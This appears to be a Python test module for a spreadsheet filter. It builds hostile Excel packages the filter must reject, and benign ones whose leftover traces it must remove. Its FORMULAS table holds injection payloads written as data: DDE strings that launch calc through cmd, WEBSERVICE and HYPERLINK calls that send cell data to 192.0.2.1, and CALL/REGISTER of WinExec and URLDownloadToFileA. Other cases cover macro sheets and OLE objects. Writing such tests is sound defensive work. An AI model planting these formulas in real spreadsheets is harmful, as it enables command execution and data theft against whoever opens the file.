"""Hostile spreadsheets of Excel, and sound ones with traces that must go."""

from collections.abc import Iterator

from tests.filters.hostile import ooxml_cases
from tests.filters.hostile.cases import Case, Sound
from tests.filters.hostile.ooxml_cases import CFB, EMBEDDED, EXTERNAL, MACRO, OTHER
from tests.filters.hostile.ooxml_forge import ALL, OFFICE, Package, package

PACKS = ("office",)
FIELD = ("office-field",)
SHEET = "xl/worksheets/sheet1.xml"
FORMULAS = {
    "DDE": "cmd|'/c calc'!A0", "DDE quoted": "'cmd'|'/c calc'!A0", "DDE in a sum": "1+MSEXCEL|'\\..\\a'!''",
    "DDE behind blanks": "  cmd |'/c calc'!A0", "web service": 'WEBSERVICE("http://192.0.2.1/"&amp;A1)',
    "web service, prefixed": '_xlfn.WEBSERVICE("http://192.0.2.1")', "call": 'CALL("Kernel32","WinExec")',
    "register": 'REGISTER("urlmon","URLDownloadToFileA")', "register id": 'REGISTER.ID("a","b")',
    "exec": 'EXEC("calc.exe")', "real-time data": 'RTD("prog.id","192.0.2.1")', "image": 'IMAGE("https://a")',
    "hyperlink": 'HYPERLINK("http://192.0.2.1/"&amp;A1,"click")', "other book": "[1]Sheet1!A1", "other book without quotes": "SUM([Book.xlsx]Sheet1!A1)",
    "other book by name": "'[book.xlsx]Sheet1'!A1", "book on a share": "'\\\\192.0.2.1\\s\\[a.xlsx]S'!A1",
    "book on the web": "'http://192.0.2.1/[a.xlsx]S'!A1", "files": 'FILES("C:\\*")', "fopen": 'FOPEN("a")',
    "open": 'OPEN("a")', "get workspace": "GET.WORKSPACE(1)", "small letters": 'webservice("http://a")',
    "blank before the bracket": 'WEBSERVICE ("http://a")', "nested": 'IF(1,WEBSERVICE("http://a"),2)',
    "filter XML": 'FILTERXML(A1,"//a")', "Python": 'PY("import os")', "cube": 'CUBEVALUE("connection","a")',
    "import of data": 'IMPORTDATA("http://a")', "XLL": "_xll.EXEC(1)", "SQL": 'SQL.REQUEST("a")',
    "stock history": 'STOCKHISTORY("a",1)', "evaluate": 'EVALUATE("a")', "poke": 'POKE(1,"a",A1)',
}  # fmt: skip


def _formula(text: str) -> Package:
    made = package("xlsx")
    return made.put(
        SHEET,
        made.parts[SHEET]
        .decode()
        .replace(
            "</x:sheetData>",
            f'<x:row r="2"><x:c r="A2"><x:f>{text}</x:f><x:v>1</x:v></x:c></x:row></x:sheetData>',
        ),
    )


def hostile() -> Iterator[Case]:
    """Every sample that must not pass."""
    yield from ooxml_cases.attacks("xlsx")
    for what, text in FORMULAS.items():
        yield Case(f"formula {what}", _formula(text).write(), FIELD)
        named = f'<x:definedNames><x:definedName name="a">{text}</x:definedName></x:definedNames>'
        made = package("xlsx")
        made.parts[made.main] = made.parts[made.main].replace(
            b"</x:workbook>", named.encode() + b"</x:workbook>"
        )
        yield Case(f"name {what}", made.write(), FIELD)
    rule = "<x:conditionalFormatting><x:cfRule><x:formula>WEBSERVICE(1)</x:formula></x:cfRule></x:conditionalFormatting>"
    yield Case("conditional format", package("xlsx").inside(rule).write(), FIELD)
    rule = '<x:dataValidations><x:dataValidation sqref="A1"><x:formula1>cmd|1!A</x:formula1></x:dataValidation></x:dataValidations>'
    yield Case("data validation", package("xlsx").inside(rule).write(), FIELD)
    for what, text, reasons in (
        ("OLE objects", "<x:oleObjects/>", EMBEDDED),
        ("controls", "<x:controls/>", EMBEDDED),
        ("web publishing", "<x:webPublishItems/>", EXTERNAL),
    ):
        yield Case(f"sheet with {what}", package("xlsx").inside(text).write(), reasons)
    made = package("xlsx")
    made.parts[made.main] = made.parts[made.main].replace(
        b"<x:sheets>",
        b'<x:externalReferences><x:externalReference r:id="rId1"/></x:externalReferences><x:sheets>',
    )
    yield Case("external references", made.write(), EXTERNAL)
    for what, word in (("external link", "externalLink"), ("connections", "connections"),
                       ("query table", "queryTable"), ("XML maps", "xmlMaps"),
                       ("real-time data", "volatileDependencies")):  # fmt: skip
        made = package("xlsx").put("xl/other.xml", "<a/>", "application/xml")
        yield Case(f"part {what}", made.link(made.main, word, "other.xml").write(), EXTERNAL)
    for what, word in (("macro sheet", "xlMacrosheet"), ("international macro sheet", "xlIntlMacrosheet"),
                       ("dialog sheet", "dialogsheet")):  # fmt: skip
        made = package("xlsx").put("xl/macrosheets/sheet1.xml", "<a/>", "application/xml")
        yield Case(
            f"part {what}", made.link(made.main, word, "macrosheets/sheet1.xml").write(), MACRO
        )
    made = package("xlsx").put(
        "xl/macrosheets/s.xml", "<a/>", "application/vnd.ms-excel.macrosheet+xml"
    )
    yield Case("macro sheet not linked", made.write(), MACRO)
    made = package("xlsx").put(
        "xl/worksheets/sheet2.bin", CFB, "application/vnd.ms-excel.sheet.binary.main"
    )
    made.links[made.main][0] = ("rId1", *made.link(made.main, "worksheet", "worksheets/sheet2.bin")
                                .links[made.main][-1][1:])  # fmt: skip
    yield Case("binary sheet", made.write(), ("office-package", *OTHER))
    made = package("xlsx")
    made.types[SHEET] = OFFICE + "spreadsheetml.chartsheet+xml"
    yield Case("sheet of another type", made.write(), ("office-package",))


def sound() -> Iterator[Sound]:
    """Samples that must pass, with what must not survive."""
    yield from ooxml_cases.ordinary("xlsx")
    for what, text in {
        "sum": "SUM(A1:B9)*2", "text with a bar": 'IF(A1="a|b","http://192.0.2.1","[1]b!c")',
        "table": "SUM(Table1[Column])", "table row": "Table1[[#This Row],[a]]", "sheet": "'My sheet'!A1",
        "names": "MAX(_xlfn.CONCAT(A1),3)", "error": "IFERROR(#REF!,0)",
    }.items():  # fmt: skip
        yield Sound(f"formula {what}", _formula(text).write(method=0))
    made = package("xlsx").inside(
        '<x:hyperlinks><x:hyperlink ref="A1" r:id="rId1"/></x:hyperlinks>'
    )
    made.link(SHEET, "hyperlink", "https://192.0.2.1/TRACE1", "External")
    made.put("xl/comments1.xml", f"<x:comments {ALL}>TRACE2</x:comments>", "application/xml")
    made.link(SHEET, "comments", "../comments1.xml")
    made.put("xl/printerSettings1.bin", b"TRACE3")
    made.link(SHEET, "printerSettings", "../printerSettings1.bin")
    made.put("xl/calcChain.xml", "<TRACE4/>", "application/xml")
    made.link(made.main, "calcChain", "calcChain.xml")
    made.put("xl/pivotCache.xml", "<TRACE5/>", "application/xml")
    made.link(made.main, "pivotCacheDefinition", "pivotCache.xml")
    yield Sound("what an editor keeps", made.write(method=0), (b"TRACE",))
